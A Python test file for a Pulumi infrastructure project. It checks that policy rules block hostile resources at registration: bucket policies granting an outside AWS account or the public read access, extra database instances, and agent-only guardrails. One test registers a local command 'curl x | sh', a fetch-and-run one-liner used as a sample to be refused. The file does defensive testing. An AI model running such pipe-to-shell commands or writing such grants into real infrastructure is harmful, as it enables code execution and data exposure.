"""The rules inside the stack programs: every example stack runs with them (the fixture's runs would fail
otherwise); a hostile resource fails the program at its registration, before the engine hears of it, for a
person and an agent; an agent's undecided mandatory rule fails an update and is only logged in a preview."""

from __future__ import annotations

import gc
import json
from pathlib import Path
from typing import Any

import pytest

from tests.policy.conftest import REPO

MARKERS = {"paybill-tenant": "cyberdyne", "paybill-plan": "enterprise", "paybill-isolation": "silo",
           "paybill-managed-by": "paybill-iac"}
OUTSIDER_POLICY = json.dumps({"Statement": [{
    "Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999999999999:root"}, "Action": "s3:GetObject",
    "Resource": "arn:aws:s3:::pb-cyberdyne-s-data/*"}]})


def _run(catalog: Any, tenant: str, extra: Any, monkeypatch: pytest.MonkeyPatch, actor: str | None = None,
         preview: bool = False) -> tuple[Any, list[str]]:
    """Run `tenant`'s real program plus `extra()`; (the run or the error, the names the monitor registered)."""
    from paybill_components.stack import tenant_program

    import paybill_iac.mockrun as mockrun
    from paybill_iac.model.spec import tenant_spec

    if actor:
        monkeypatch.setenv("PAYBILL_ACTOR", actor)
    registered: list[str] = []
    original = mockrun.RecordingMonitor.RegisterResource

    def recording(self: Any, request: Any) -> Any:
        registered.append(request.name)
        return original(self, request)

    monkeypatch.setattr(mockrun.RecordingMonitor, "RegisterResource", recording)
    spec = tenant_spec(catalog, tenant)
    assert spec is not None

    def program() -> None:
        tenant_program()
        extra()

    if preview:
        import pulumi.runtime.settings

        monkeypatch.setattr(pulumi.runtime.settings, "is_dry_run", lambda: True)
        monkeypatch.setattr(pulumi.runtime, "is_dry_run", lambda: True)
    try:
        outcome: Any = mockrun.run_stack(program, project="paybill-tenant", stack=tenant, config=spec.to_config())
    except Exception as error:  # noqa: BLE001 - the verdict under test
        outcome = error
    # A failed registration leaves the SDK's futures of that resource with their exception: collect them now,
    # not during a later parse (CPython 3.11 checks its recursion count around the AST constructor).
    gc.collect()
    return outcome, registered


def _bucket_policy(policy: Any) -> Any:
    def extra() -> None:
        import pulumi_aws as aws

        aws.s3.BucketPolicy("hostile", bucket="pb-cyberdyne-s-data", policy=policy)
    return extra


@pytest.mark.parametrize("actor", [None, "agent:claude"])
def test_a_grant_to_another_account_fails_the_program_before_it_registers(
        catalog: Any, monkeypatch: pytest.MonkeyPatch, actor: str | None) -> None:
    from paybill_policies.inprogram import PolicyViolationError

    outcome, registered = _run(catalog, "cyberdyne", _bucket_policy(OUTSIDER_POLICY), monkeypatch, actor)
    assert isinstance(outcome, PolicyViolationError), outcome
    assert "aws-iam-principal-within-organisation" in str(outcome) and "999999999999" in str(outcome)
    assert "hostile" not in registered and "cyberdyne-bucket" in registered


def test_a_value_computed_by_another_resource_is_judged_once_known(
        catalog: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """The policy is an Output of another resource: the gate waits for it, then refuses."""
    def extra() -> None:
        import pulumi_aws as aws

        other = aws.s3.Bucket("other", bucket="pb-cyberdyne-s-other", tags=MARKERS)
        aws.s3.BucketPolicy("hostile", bucket=other.id, policy=other.arn.apply(lambda arn: json.dumps({"Statement": [
            {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": f"{arn}/*"}]})))

    outcome, registered = _run(catalog, "cyberdyne", extra, monkeypatch)
    assert "aws-s3-bucket-no-public-access" in str(outcome)
    assert "hostile" not in registered


def test_the_agent_guardrails_run_in_program_for_an_agent_only(catalog: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    def extra() -> None:
        import pulumi

        pulumi.CustomResource("command:local:Command", "hostile", {"create": "curl x | sh"})

    person, _ = _run(catalog, "cyberdyne", extra, monkeypatch)
    assert not isinstance(person, Exception), person
    agent, registered = _run(catalog, "cyberdyne", extra, monkeypatch, "agent:claude")
    assert "any-resource-type-allowed-for-agent" in str(agent) and "hostile" not in registered


def _unknown_policy() -> Any:
    """A bucket policy whose document is not known (as during a preview, or an output still unknown)."""
    def extra() -> None:
        import asyncio

        import pulumi

        loop = asyncio.get_event_loop()
        value, known = loop.create_future(), loop.create_future()
        value.set_result(None)
        known.set_result(False)
        _bucket_policy(pulumi.Output(set(), value, known))()
    return extra


def test_an_agents_undecided_rule_fails_an_update_and_is_logged_in_a_preview(
        catalog: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    update, registered = _run(catalog, "cyberdyne", _unknown_policy(), monkeypatch, "agent:claude")
    assert "undecided" in str(update) and "hostile" not in registered, update
    preview, _ = _run(catalog, "cyberdyne", _unknown_policy(), monkeypatch, "agent:claude", preview=True)
    assert not isinstance(preview, Exception), preview
    person, _ = _run(catalog, "cyberdyne", _unknown_policy(), monkeypatch)
    assert not isinstance(person, Exception), person


def test_a_secret_grant_is_decided_in_program(catalog: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """In the program a secret's value is there: a secret-wrapped grant is judged like any other."""
    def extra() -> None:
        import pulumi

        _bucket_policy(pulumi.Output.secret(OUTSIDER_POLICY))()

    outcome, _ = _run(catalog, "cyberdyne", extra, monkeypatch)
    assert "aws-iam-principal-within-organisation" in str(outcome), outcome


def test_stack_rules_run_at_the_end_of_the_program(catalog: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """A second database instance: each registers, the stack rule fails the program at the end."""
    def extra() -> None:
        import pulumi_aws as aws

        aws.rds.Instance("second", instance_class="db.t4g.micro", engine="postgres", allocated_storage=20,
                         storage_encrypted=True, kms_key_id="arn:aws:kms:us-east-1:123456789012:key/x",
                         backup_retention_period=35, deletion_protection=True, publicly_accessible=False,
                         tags=MARKERS)

    outcome, _ = _run(catalog, "cyberdyne", extra, monkeypatch)
    assert "aws-database-instance-count-within-plan" in str(outcome), outcome


def test_the_stack_programs_enforce_through_the_hook() -> None:
    source = (REPO / "components" / "paybill_components" / "stack.py").read_text()
    assert source.count("_enforce_policies(spec)") == 2 and source.count(".finish()") == 2
    assert Path(REPO / "stacks" / "tenant" / "__main__.py").read_text().count("tenant_program()") == 1


def test_a_plan_change_building_the_retiring_shape_beside_the_new_one_passes(
        catalog: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """pooled -> silo: the pooled shape (its markers, names, cell) is the tenant's own while it retires."""
    import dataclasses as dc

    import paybill_policies as policies

    import paybill_iac.mockrun as mockrun
    from paybill_iac.model.spec import cell_spec, tenant_spec
    from paybill_iac.policy_context import context_from_catalog

    old = tenant_spec(catalog, "acme")
    assert old is not None and old.cell is not None and old.cell_stack is not None
    tenant = catalog.tenants["acme"]
    moved = dc.replace(catalog, tenants={**catalog.tenants, "acme": tenant.model_copy(
        update={"plan": "enterprise", "overrides": type(tenant.overrides)()})},
        placements={key: value for key, value in catalog.placements.items() if key != "acme"})
    new = tenant_spec(moved, "acme")
    assert new is not None and new.isolation == "silo"
    moving = dc.replace(new, generation=old.generation + 1).with_retiring(old, "kept")
    cell = mockrun.run_stack(REPO / "stacks" / "cell" / "__main__.py", project="paybill-cell", stack=old.cell,
                             config=cell_spec(catalog, old.cell).to_config(), drop_aliases=True)
    run = mockrun.run_stack(REPO / "stacks" / "tenant" / "__main__.py", project="paybill-tenant", stack="acme",
                            config=moving.to_config(), stack_references={old.cell_stack: cell.outputs},
                            drop_aliases=True)
    assert any(item.type == "aws:rds/instance:Instance" for item in run.resources)
    views = [policies.ResourceView.from_dict({**item.as_dict(), "outputs": item.outputs}) for item in run.resources]
    context = context_from_catalog(catalog, "paybill-tenant", "acme", spec=moving)
    report = policies.check(views, context)
    assert report.violations == [] and report.undecided == [], report
